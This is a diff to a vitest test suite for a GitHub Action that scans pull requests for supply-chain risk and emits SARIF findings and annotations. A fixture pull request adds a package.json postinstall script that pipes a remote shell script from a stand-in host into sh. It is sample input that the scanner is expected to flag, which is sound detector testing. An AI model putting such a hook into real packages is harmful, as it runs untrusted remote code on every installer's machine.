@@ -7,7 +7,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
 import { GITHUB_COMMENT_LIMIT } from '../../src/cli/render-markdown.js';
 import { type GitHubServer, startGitHubServer } from '../support/github-server.js';
-import { typicalPrFixture } from '../support/pr-fixture.js';
+import { makePrFixture, typicalPrFixture } from '../support/pr-fixture.js';
 import { ROOT, SVC } from './run-cli.js';
 
 interface ActionStep {
@@ -66,6 +66,21 @@ describe('the GitHub Action (action.yml)', () => {
     beforeAll(async () => {
       github = await startGitHubServer();
       github.addPullRequest(typicalPrFixture());
+      github.addPullRequest(
+        makePrFixture({
+          owner: 'acme',
+          repo: 'gizmo',
+          number: 9,
+          title: 'Set up the toolchain after install',
+          files: [
+            {
+              path: 'package.json',
+              base: `${JSON.stringify({ name: 'gizmo', version: '1.0.0', scripts: { test: 'vitest run' } }, null, 2)}\n`,
+              head: `${JSON.stringify({ name: 'gizmo', version: '1.0.0', scripts: { test: 'vitest run', postinstall: 'curl -fsSL https://get.example.net/i.sh | sh' } }, null, 2)}\n`,
+            },
+          ],
+        }),
+      );
       dir = mkdtempSync(path.join(tmpdir(), 'svc-action-'));
     });
     afterAll(async () => {
@@ -110,8 +125,25 @@ describe('the GitHub Action (action.yml)', () => {
       expect(run.summary).toContain('svc: low risk');
       expect(run.summary.length).toBeLessThanOrEqual(GITHUB_COMMENT_LIMIT);
       expect(run.stdout).toContain('acme/widgets#42  Pad widget labels');
-      expect(run.output).toMatch(/^risk-level=low\nrisk-score=0\.\d+\nreview-action=\w+\nsignal-file=.*svc-signal\.json\n$/);
+      expect(run.output).toMatch(/^risk-level=low\nrisk-score=0\.\d+\nreview-action=\w+\nsignal-file=.*svc-signal\.json\nsarif=.*svc\.sarif\n$/);
+      const sarif = JSON.parse(readFileSync(path.join(dir, 'svc.sarif'), 'utf8')) as { version: string; runs: { results: unknown[] }[] };
+      expect(sarif.version).toBe('2.1.0');
+      const signal = JSON.parse(readFileSync(path.join(dir, 'svc-signal.json'), 'utf8')) as { supply_chain: { findings: unknown[] } };
+      expect(sarif.runs[0]?.results).toHaveLength(signal.supply_chain.findings.length);
     }, 60_000);
+
+    it('writes the findings as SARIF (rules linked to the action\'s own docs) and prints them as annotations unless annotate is false', async () => {
+      const env = { PR_URL: `${github.url}/acme/gizmo/pull/9`, GITHUB_SERVER_URL: 'https://github.example', GITHUB_ACTION_REPOSITORY: 'acme/svc', GITHUB_ACTION_REF: 'v2' };
+      const run = await runStep(env);
+      expect(run.code).toBe(0);
+      const sarif = JSON.parse(readFileSync(/sarif=(.*)\n/.exec(run.output)?.[1] ?? '', 'utf8')) as { runs: { tool: { driver: { rules: { helpUri?: string }[] } }; results: unknown[] }[] };
+      expect(sarif.runs[0]?.results.length).toBeGreaterThan(0);
+      expect(sarif.runs[0]?.tool.driver.rules[0]?.helpUri).toMatch(/^https:\/\/github\.example\/acme\/svc\/blob\/v2\/docs\/findings\.md#/);
+      expect(run.stdout).toMatch(/^::error file=package\.json,line=\d+,endLine=\d+,title=svc%3A /m);
+      const quiet = await runStep({ ...env, ANNOTATE: 'false' });
+      expect(quiet.code).toBe(0);
+      expect(quiet.stdout).not.toMatch(/^::(error|warning|notice) /m);
+    }, 90_000);
 
     it('fails the step with exit 1 when fail-on is reached, 2 on bad inputs or no pull request', async () => {
       expect((await runStep({ FAIL_ON: 'low' })).code).toBe(1);
